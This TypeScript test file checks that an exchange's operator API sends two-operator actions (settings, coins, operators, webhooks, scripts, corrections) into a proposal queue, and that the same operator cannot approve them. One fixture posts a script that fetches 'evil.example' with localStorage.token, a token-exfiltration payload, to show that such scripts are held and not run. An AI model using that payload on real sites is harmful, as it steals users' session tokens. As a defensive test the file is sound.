import { mkdtemp } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { operatorCalls, type OperatorCall } from '@plimsoll/contract/operator';
import { Secret, TOTP } from 'otpauth';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readConfig } from '../config.ts';
import { systemClock } from '../platform/clock.ts';
import { startServer, type RunningServer } from '../server.ts';
import { testDatabase, type TestDatabase } from '../testing/index.ts';

// Everything that needs two operators by RULES 8, taken from the contract and tried by one owner on the whole server:
// answered 202, and nothing changes.

const PASSWORD = 'Bilge-pump 7 starboard';
const TRON = 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t';
let database: TestDatabase;
let server: RunningServer;
let token: string;

/** Fields that belong together: a bank account has no address. */
const BANK = { bank_name: 'North Bank', account_name: 'Lea', account_number: '1' } as const;
/** Another value for each field that needs two operators. */
const SAMPLES: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  settings: {
    four_eyes_threshold: '999999999',
    spot_fee: '0.002',
    exchange_spread: '0.003',
    traders_password_switch: 0,
    identity_for_withdrawal: 1,
    fresh_seconds: 7,
    depth_recovery: 31,
    price_band: '0.4',
    spot_position_limit: '1',
    spot_member_minute_limit: '1',
    line_delay: 900,
    mark_band: '0.004',
    options_net_limit: '1',
    options_member_limit: '1',
    daily_limit_uncertified: '1',
    daily_limit_certified: '1',
  },
  coins: {
    txminnum: '0.5',
    txmaxnum: '99999',
    sxftype: 1,
    txsxf: '1',
    txsxf_n: '1',
    internal_transfer_sxf: '0.1',
    internal_transfer_days: 5,
  },
  markets: { spot_fee: '0.003', max_jump: '0.3' },
  networks: {
    pay_type: 2,
    coin_net: 'Pier chain',
    names: [{ lang: 'de', name: 'Pier-Kette' }],
    pay_img: '/coins/btc.svg',
    address: TRON,
    enabled: 0,
    ...BANK,
  },
  operators: { role: 'owner', enabled: 1, email: 'mine@quay.example' },
  webhooks: { name: 'Mine', url: 'https://mine.example/', events: ['alert.raised'], enabled: 0 },
};
/** Fields of new records that need two operators. */
const NEW: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  coins: { title: 'NEWC', decimals: 8 },
  markets: { symbol: 'dogebtc', base: 'DOGE', quote: 'BTC', min: '10', step: '0.5', price_step: '0.00000001' },
  networks: { c_id: 1, pay_type: 1, coin_net: 'Pier chain', address: TRON },
  'option-terms': { seconds: 45, min: '10', max: '2000', rate: '0.9' },
  operators: { username: 'sock', password: PASSWORD, role: 'owner' },
  webhooks: { name: 'Mine', url: 'https://mine.example/', events: ['deposit.decided'] },
};
const ALWAYS: Readonly<Record<string, Readonly<Record<string, unknown>>>> = {
  'option-terms': { rate: '5' },
  operators: { remark: 'lost' },
  members: { remark: 'lost' },
};

async function ask(
  method: string,
  path: string,
  fields?: object,
): Promise<{ status: number; body: Record<string, unknown> }> {
  const response = await fetch(`${server.url}/operator/api${path}`, {
    method,
    headers: {
      ...(fields ? { 'content-type': 'application/json' } : {}),
      ...(token ? { authorization: `Bearer ${token}` } : {}),
    },
    ...(fields ? { body: JSON.stringify(fields) } : {}),
  });
  return { status: response.status, body: (await response.json()) as Record<string, unknown> };
}
const codeOf = (secret: string): string =>
  new TOTP({ algorithm: 'SHA1', digits: 6, period: 30, secret: Secret.fromBase32(secret) }).generate();
/** The newest member, with a second factor. */
async function memberWithFactor(): Promise<void> {
  const call = async (name: string, fields: object, Token = '') => {
    const response = await fetch(`${server.url}/api/${name}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(Token === '' ? {} : { Token }) },
      body: JSON.stringify(fields),
    });
    return ((await response.json()) as { data: { userinfo: { token: string }; secret: string } }).data;
  };
  const { userinfo } = await call('register', {
    type: '2',
    email: 'lea@quay.example',
    password: PASSWORD,
    repassword: PASSWORD,
  });
  const { secret } = await call('startTotp', { password: PASSWORD }, userinfo.token);
  await call('confirmTotp', { second: codeOf(secret) }, userinfo.token);
}
const resourceOf = ({ path }: OperatorCall): string => path.split('/')[1] ?? '';

/** All that these calls could change, as one text. */
async function state(): Promise<string> {
  const of = (table: string, columns = 't::text') =>
    `(select coalesce(string_agg(${columns}, E'\\n' order by id), '') from ${table} t)`;
  const [row] = await database.db.run<{ all: string }>({
    name: 'matrix.state',
    text: `
    select concat_ws('|', ${['coin', 'coin_network', 'market', 'option_terms', 'script', 'recharge', 'withdrawal', 'webhook_endpoint'].map((table) => of(table)).join(', ')},
      ${of('operator', `concat_ws(' ', username, password_hash, role, enabled, email, totp_confirmed_at)`)},
      (select string_agg(s::text, ',') from webhook_secret s), (select string_agg(f::text, ',') from second_factor f), (select string_agg(key || value::text, ',' order by key) from setting), (select count(*) from ledger_journal where actor_kind = 'operator')) as all`,
  });
  return row?.all ?? '';
}

beforeAll(async () => {
  database = await testDatabase();
  const config = readConfig({
    ...database.env,
    DATA_DIR: await mkdtemp(join(tmpdir(), 'two-operators-')),
    PORT: '0',
    FEED_SEED: '1',
    OPERATOR_PASSWORD: PASSWORD,
  });
  server = await startServer(config, { clock: systemClock, log: { info: () => {}, error: () => {} }, say: () => {} });
  await memberWithFactor();
  token = String((await ask('POST', '/session', { username: 'owner', password: PASSWORD })).body['token']);
  // A demo's lone owner makes operators alone; from here on there are two.
  await ask('POST', '/operators', { username: 'aide', password: PASSWORD, role: 'viewer', enabled: 0 });
  await ask('POST', '/operators', { username: 'second', password: PASSWORD, role: 'owner' });
  const { body } = await ask('POST', '/operators/me/totp', { password: PASSWORD });
  await ask('POST', '/operators/me/totp', { password: PASSWORD, code: codeOf(String(body['secret'])) });
  // As two owners would have made it.
  await database.db.run({
    name: 'matrix.webhook',
    text: `insert into webhook_endpoint (name, url, events, enabled, created_at)
      values ('Ledger', 'https://hooks.example/', array['order.settled'], true, now())`,
  });
}, 120_000);
afterAll(async () => {
  await server.close();
  await database.drop();
});

const guarded = operatorCalls.filter(({ two, path }) => two.length > 0 && path !== '/recharges/{id}/approve');
const asked = guarded.flatMap((call) => {
  // Depends on the state of the member’s account: the gate tests it.
  if (call.two === 'sometimes') return [];
  const resource = resourceOf(call);
  const isNew = call.method === 'POST' && !call.path.includes('{id}');
  if (call.two === 'always')
    return [[`${call.method} ${call.path}`, call, (isNew ? NEW[resource] : ALWAYS[resource]) ?? {}] as const];
  return call.two.map(
    (field) =>
      [
        `${call.method} ${call.path} ${field}`,
        call,
        {
          ...(isNew ? NEW[resource] : {}),
          ...(field in BANK ? { ...BANK, pay_type: 3, address: '' } : {}),
          [field]: SAMPLES[resource]?.[field],
        },
      ] as const,
  );
});

test('what RULES 8 names is behind two operators in the contract: operators, deposits, addresses, thresholds, fees, switches, terms, limits', () => {
  expect(
    operatorCalls
      .filter(({ two }) => two.length > 0)
      .map(({ method, path }) => `${method} ${path}`)
      .toSorted(),
  ).toEqual([
    'PATCH /coins/{id}',
    'PATCH /markets/{id}',
    'PATCH /networks/{id}',
    'PATCH /operators/{id}',
    'PATCH /option-terms/{id}',
    'PATCH /settings',
    'PATCH /webhooks/{id}',
    'POST /coins',
    'POST /markets',
    'POST /members/{id}/reset-factors',
    'POST /members/{id}/unfreeze',
    'POST /networks',
    'POST /operators',
    'POST /operators/{id}/reset',
    'POST /option-terms',
    'POST /recharges/{id}/approve',
    'POST /webhooks',
    'POST /webhooks/{id}/rotate',
  ]);
  // What is kept in a table of its own, and a withdrawal over the threshold, answer 202 as ever.
  expect(
    operatorCalls
      .filter((call) => call.two.length === 0 && (call.status === 202 || 'isDone' in call))
      .map(({ path }) => path)
      .toSorted(),
  ).toEqual(['/corrections', '/house-postings', '/scripts', '/withdrawals/{id}/approve']);
  expect(asked.filter(([, , fields]) => Object.values(fields).includes(undefined)).map(([name]) => name)).toEqual([]);
});

test.each(asked)('%s is answered 202 and changes nothing alone', async (_name, call, fields) => {
  const resource = resourceOf(call);
  const q = resource === 'operators' ? '&q=aide' : resource === 'networks' ? '&q=TRC20' : '';
  const id = call.path.includes('{id}')
    ? String(((await ask('GET', `/${resource}?limit=1${q}`)).body['list'] as { id: number }[])[0]?.id)
    : '';
  const before = await state();
  const { status, body } = await ask(call.method, call.path.replace('{id}', id), fields);
  expect([status, body['proposal']]).toEqual([
    202,
    expect.objectContaining({ kind: resource, status: 1, username: 'owner', may: 'proposed' }),
  ]);
  expect(await state()).toBe(before);
  const proposal = (body['proposal'] as { id: number }).id;
  expect(await ask('POST', `/proposals/${proposal}/approve`, {})).toMatchObject({
    status: 409,
    body: { reason: 'same_operator' },
  });
  expect(await state()).toBe(before);
});

test('a script, a house posting and a correction wait in the same queue', async () => {
  expect(
    (await ask('POST', '/house-postings', { account: 'fees', c_id: 1, amount: '50000000', remark: 'spring' })).status,
  ).toBe(202);
  const [member] = (await ask('GET', '/members?limit=1')).body['list'] as { id: number }[];
  expect(
    (await ask('POST', '/corrections', { member_id: member?.id, type: 1, c_id: 1, amount: '50000000', remark: 'mine' }))
      .status,
  ).toBe(202);
  const script = await ask('POST', '/scripts', { content: 'fetch("//evil.example?" + localStorage.token)' });
  expect(script.status).toBe(202);
  const { list } = (await ask('GET', '/proposals?status=1&limit=3')).body as {
    list: { id: number; kind: string; may: string }[];
  };
  expect(list.map(({ kind, may }) => [kind, may])).toEqual([
    ['scripts', 'proposed'],
    ['corrections', 'proposed'],
    ['house-postings', 'proposed'],
  ]);
  for (const { id } of list)
    expect(await ask('POST', `/proposals/${id}/approve`, {})).toMatchObject({
      status: 409,
      body: { reason: 'same_operator' },
    });
  for (const { id } of list)
    expect(await ask('POST', `/proposals/${id}/reject`, {})).toMatchObject({ status: 200, body: { status: 3 } });
  const moved = {
    name: 'matrix.moved',
    text: `select (select count(*)::int from ledger_journal where actor_kind = 'operator') as journals, (select count(*)::int from script where status = 2) as running`,
  };
  expect(await database.db.run(moved)).toEqual([{ journals: 0, running: 0 }]);
});
